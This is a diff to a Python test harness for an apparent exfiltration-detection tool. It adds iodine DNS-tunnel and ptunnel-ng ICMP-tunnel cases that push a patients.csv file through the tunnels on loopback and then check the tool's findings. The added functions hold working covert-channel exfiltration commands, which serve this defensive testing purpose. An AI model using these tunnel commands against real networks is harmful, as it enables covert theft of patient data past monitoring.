@@ -17,7 +17,6 @@ query/retrieve, HL7 over MLLP, DNS and ICMP tunnels, recorded into a capture of 
 A row whose program is missing or cannot run here is skipped with its reason, never failed.
 Runs inside run_live.py's network namespace (inner) and checks outside it (check).
 """
-import base64
 import hashlib
 import json
 import os
@@ -42,12 +41,15 @@ PYNETDICOM = ("127.0.0.17", 11113)
 RESOLVER = "127.0.0.19"     # dnsmasq: inside the home network of this capture
 AUTH = "127.0.0.20"         # the tunnel domains' name server
 ICMP_PROXY = "127.0.0.21"
+IODINED = "127.0.0.22"
+IODINE_NET = ("10.53.0.1/27", "10.53.0.9")   # iodined's tunnel network; a peer beyond it
 HOME_NET = "127.0.0.1/32,%s/32" % RESOLVER
 SMB_USER, SMB_PASS = "root", "phitrace-live"
-DNSCAT_DOMAIN = "dc.tunnel.example"
-B32_DOMAIN = "b32.tunnel.example"
-B64_DOMAIN = "b64.tunnel.example"
-IODINE_DOMAIN = "io.tunnel.example"
+# each tunnel under a domain of its own (siblings under one parent would be one group)
+DNSCAT_DOMAIN = "dc.tunnel-a.example"
+B32_DOMAIN = "b32.tunnel-b.example"
+B64_DOMAIN = "b64.tunnel-c.example"
+IODINE_DOMAIN = "io.tunnel-d.example"
 
 
 def skip_reasons():
@@ -389,7 +391,56 @@ def counter_send(payload, domain, enc):
 
 DNSMASQ_ARGS = ["dnsmasq", "--keep-in-foreground", "--no-resolv", "--no-hosts", "--bind-interfaces",
                 "--listen-address=" + RESOLVER, "--port=53", "--cache-size=0", "--pid-file",
-                "--user=root", "--server=/tunnel.example/%s@%s" % (AUTH, RESOLVER)]
+                "--user=root", "--server=/example/%s@%s" % (AUTH, RESOLVER),
+                "--server=/%s/%s@%s" % (IODINE_DOMAIN, IODINED, RESOLVER)]
+IODINE_PW = "phitrace-live"
+
+
+def iodine_send(csv):
+    """iodine's client through the resolver (-r: no raw mode, every packet a DNS query); once
+    its tun device is up, each line of csv is one UDP datagram to a peer beyond iodined,
+    routed into the client's tun device, so it travels upstream in iodine's queries."""
+    cli = subprocess.Popen(["iodine", "-f", "-r", "-P", IODINE_PW, RESOLVER, IODINE_DOMAIN],
+                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    server_ip = IODINE_NET[0].split("/")[0]
+    try:
+        dev = None
+        for _ in range(100):
+            # iodined's device has the network's first address, the client's another one
+            for line in subprocess.run(["ip", "-o", "-4", "addr", "show"], capture_output=True,
+                                       text=True).stdout.splitlines():
+                f = line.split()
+                if f[3].rsplit(".", 1)[0] == server_ip.rsplit(".", 1)[0] and \
+                        f[3].split("/")[0] != server_ip:
+                    dev = f[1]
+            if dev is not None:
+                break
+            time.sleep(0.2)
+        if dev is None:
+            raise SystemExit("iodine: no tunnel device after 20 s")
+        subprocess.run(["ip", "route", "add", IODINE_NET[1] + "/32", "dev", dev], check=True)
+        time.sleep(1.0)  # iodine's first polls after the device is up
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        for line in open(csv, "rb"):
+            s.sendto(line, (IODINE_NET[1], 9999))
+            time.sleep(0.1)  # no faster than iodine drains its queue upstream
+        time.sleep(2.0)
+    finally:
+        cli.terminate()
+        cli.wait(timeout=10)
+
+
+def iodine_rows(d, data, procs):
+    procs.append(subprocess.Popen(["iodined", "-f", "-c", "-P", IODINE_PW, "-l", IODINED, "-p",
+                                   "53", IODINE_NET[0], IODINE_DOMAIN],
+                                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
+    time.sleep(0.5)
+    csv = os.path.join(data, "exports", "patients.csv")
+    code = "import sys; sys.path.insert(0, %r); import live_more as m; m.iodine_send(%r)" % (
+        os.path.dirname(os.path.abspath(__file__)), csv)
+    return [("iodine -> iodined via dnsmasq (a CSV in UDP datagrams through the tunnel)",
+             [PY, "-c", code], dict(proto="iodine", domain=IODINE_DOMAIN, client="127.0.0.1",
+                                    resolver=RESOLVER, src=csv, individuals=20))]
 
 
 def dns_rows(d, data, procs):
@@ -418,6 +469,27 @@ def dns_rows(d, data, procs):
     return rows
 
 
+# ---- ICMP tunnel ---------------------------------------------------------------------------
+
+def icmp_rows(d, data, procs):
+    """ptunnel-ng's proxy at ICMP_PROXY forwards to a TCP sink; its client takes a TCP
+    connection on a local port and carries it in ICMP echo requests to the proxy."""
+    got = os.path.join(d, "icmp-received.csv")
+    procs.append(subprocess.Popen(["socat", "-u", "TCP-LISTEN:7000,bind=127.0.0.1,reuseaddr",
+                                   "OPEN:%s,creat,trunc" % got], stdout=subprocess.DEVNULL,
+                                  stderr=subprocess.DEVNULL))
+    procs.append(subprocess.Popen(["ptunnel-ng", "-r127.0.0.1", "-R7000"],
+                                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
+    time.sleep(0.5)
+    csv = os.path.join(data, "exports", "patients.csv")
+    script = ("ptunnel-ng -p%s -l7001 -r127.0.0.1 -R7000 >/dev/null 2>&1 & c=$!; sleep 1; "
+              "socat -u OPEN:%s TCP:127.0.0.1:7001; sleep 3; kill $c; cmp %s %s" % (
+                  ICMP_PROXY, csv, csv, got))
+    return [("ptunnel-ng client -> ptunnel-ng proxy (a CSV over TCP in ICMP echo)",
+             ["sh", "-c", script], dict(proto="icmp", client="127.0.0.1", server=ICMP_PROXY,
+                                        size=os.path.getsize(csv), individuals=20))]
+
+
 # ---- recording -------------------------------------------------------------------------------
 
 def inner(work, data):
@@ -435,7 +507,9 @@ def inner(work, data):
                   ("dicom-qr", lambda: dicom_rows(d, data, procs)),
                   ("pynetdicom", lambda: pynetdicom_row(data)),
                   ("hl7", lambda: hl7_rows(d, data, skip)),
-                  ("dns", lambda: dns_rows(d, data, procs)))
+                  ("dns", lambda: dns_rows(d, data, procs)),
+                  ("iodine", lambda: iodine_rows(d, data, procs)),
+                  ("icmp", lambda: icmp_rows(d, data, procs)))
         for group, make in groups:
             if group not in skip:
                 runs += make()
@@ -560,5 +634,42 @@ def check_dns_tunnel(con, t, binary, case):
             t["client"], t["resolver"], t["domain"], t["encoding"], t["individuals"])
 
 
-CHECKS = {"smb": check_smb, "smb-encrypted": check_smb_encrypted, "dicom": check_dicom,
+def check_iodine(con, t, binary, case):
+    fnd = con.execute("SELECT source, detail FROM finding WHERE heuristic = 'dns_tunnel' AND "
+                      "destination = ?", (t["domain"],)).fetchall()
+    fok = len(fnd) == 1 and fnd[0][0] == t["client"] and \
+        t["resolver"] in json.loads(fnd[0][1]).get("resolvers", [])
+    obj = con.execute("SELECT o.sha256, o.direction, p.individuals FROM object o LEFT JOIN "
+                      "phi_object p ON p.object_sha256 = o.sha256 WHERE o.protocol = "
+                      "'dns-tunnel' AND o.encoding = 'iodine' AND o.name = ?",
+                      (t["domain"],)).fetchall()
+    lines = open(t["src"], "rb").read().splitlines(True)
+    body = subprocess.run([binary, "export-object", case, obj[0][0]], capture_output=True
+                          ).stdout if len(obj) == 1 else b""
+    # each datagram whole in the decoded packets (an IPv4/UDP header before each)
+    found = sum(1 for ln in lines if ln in body)
+    ok = fok and len(obj) == 1 and obj[0][1:] == ("upload", t["individuals"]) and \
+        found == len(lines)
+    return ok, "finding %s; object %s; %d of %d datagrams in it" % (fnd, obj, found, len(lines)), \
+        "dns_tunnel finding (client %s, resolver %s, %s), iodine packets decoded with all %d " \
+        "datagrams, %d individuals in the object" % (t["client"], t["resolver"], t["domain"],
+                                                     len(lines), t["individuals"])
+
+
+def check_icmp(con, t, binary, case):
+    fnd = con.execute("SELECT source, destination FROM finding WHERE heuristic = 'icmp_tunnel'"
+                      ).fetchall()
+    obj = con.execute("SELECT o.protocol, o.direction, o.complete, o.size >= ? FROM object o "
+                      "JOIN flow f ON f.id = o.flow_id WHERE f.server_addr = ? AND o.depth = 0",
+                      (t["size"], t["server"])).fetchall()
+    ind = con.execute("SELECT individuals, verdict FROM exfil_event WHERE destination = ?",
+                      (t["server"],)).fetchall()
+    want = ([(t["client"], t["server"])], [("icmp", "upload", 1, 1)],
+            [(t["individuals"], "confirmed")])
+    return (fnd, obj, ind) == want, "finding %s, object %s, exfil_event %s; want %s" % (
+        fnd, obj, ind, want), "icmp_tunnel finding (%s -> %s), the echo payloads one object, " \
+        "%d individuals confirmed" % (t["client"], t["server"], t["individuals"])
+
+
+CHECKS = {"icmp": check_icmp, "iodine": check_iodine, "smb": check_smb, "smb-encrypted": check_smb_encrypted, "dicom": check_dicom,
           "hl7": check_hl7, "dns-tunnel": check_dns_tunnel}
